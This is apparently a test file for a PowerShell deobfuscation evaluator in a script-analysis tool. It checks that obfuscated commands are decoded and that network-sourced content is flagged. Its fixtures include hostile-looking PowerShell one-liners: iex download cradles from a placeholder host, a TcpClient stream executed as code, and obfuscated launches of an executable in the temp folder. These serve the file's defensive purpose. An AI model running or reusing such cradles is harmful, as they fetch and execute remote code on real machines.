import { Budget } from '../core/budget.js';
import type { Evaluation } from '../core/evaluation.js';
import { evaluatePowerShell } from './powershell.evaluator.js';

const evaluate = (text: string): Evaluation => evaluatePowerShell(text, new Budget());
const payloads = (text: string): string[] => evaluate(text).derived.filter(({ kind }) => kind === 'payload').map((each) => each.text);
const executed = (text: string): string => evaluate(text).derived.find(({ kind }) => kind === 'executed')?.text ?? '';

describe('texts of known and unknown parts', () => {
  it.each([
    ['-replace by an unknown value', `iex (('Start-Process QQ'+'DIRQQ\\a.exe') -replace 'QQ[A-Z]+QQ', $env:TEMP)`],
    ['-replace in an unknown value', `iex ("Start-Process $env:TEMP~\\a.exe" -replace '~', '')`],
    ['the method Replace', `$t = 'Start-Process #\\a.exe'; iex $t.Replace('#', $env:TEMP)`],
    ['concatenation', `iex ('Start-' + 'Process ' + $env:TEMP + '\\a.exe')`],
  ])('runs a command whose folder is not known: %s', (_name, script) => {
    expect(payloads(script)).toEqual(['Start-Process $env:TEMP\\a.exe']);
    expect(evaluate(script).notDecoded.map(({ reason }) => reason)).toEqual(['unknownValue']);
  });

  it('does not take a name that it changes for the value behind it', () => {
    expect(payloads(`iex ("Start-Process $env:TEMP\\a.exe" -replace 'TEMP', 'x')`)).toEqual(['Start-Process $env:TEMP\\a.exe']);
  });

  it.each([
    ['a buffer that a connection fills', `$s = (New-Object Net.Sockets.TcpClient('192.0.2.7', 443)).GetStream(); $b = New-Object byte[] 64; $n = $s.Read($b, 0, 64); iex ([Text.Encoding]::ASCII.GetString($b, 0, $n))`],
    ['bytes of a download', `iex ([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('http://a.example.test/x')))`],
    ['a method taken by its name', `$w = New-Object Net.WebClient; iex $w.('Down' + 'loadString').Invoke('http://a.example.test/x')`],
  ])('knows that %s comes from elsewhere', (_name, script) => {
    expect(evaluate(script).notDecoded).toContainEqual(expect.objectContaining({ reason: 'remoteContent' }));
    expect(payloads(script)).toEqual([]);
  });

  it('writes a method taken by its name as the call it is', () => {
    expect(executed(`$w = New-Object Net.WebClient; $w.('Down' + 'loadFile').Invoke('http://a.example.test/x', 'C:\\x')`)).toContain(".DownloadFile('http://a.example.test/x', 'C:\\x')");
  });

  it('gives nothing for a method that only closes', () => {
    expect(payloads(`function f { $a = [Security.Cryptography.Aes]::Create(); $a.Dispose(); return 'Get-Date' }; iex (f)`)).toEqual(['Get-Date']);
  });

  it('reads a backtick before e as Windows PowerShell does, but for a terminal sequence', () => {
    expect(payloads('iex "G`et-Dat`e"')).toEqual(['Get-Date']);
    expect(payloads('iex "Write-Host `e[0m"')).toEqual(['Write-Host \x1b[0m']);
  });

  it('names the steps of what went through a pipeline', () => {
    const layer = evaluate(`('33 17 0' -split ' ' | % { [char]($_ -bxor 84) }) -join '' | iex`).derived.find(({ kind }) => kind === 'payload');
    expect(layer?.rules).toEqual(expect.arrayContaining(['split', 'xor', 'char codes', 'join']));
  });
});
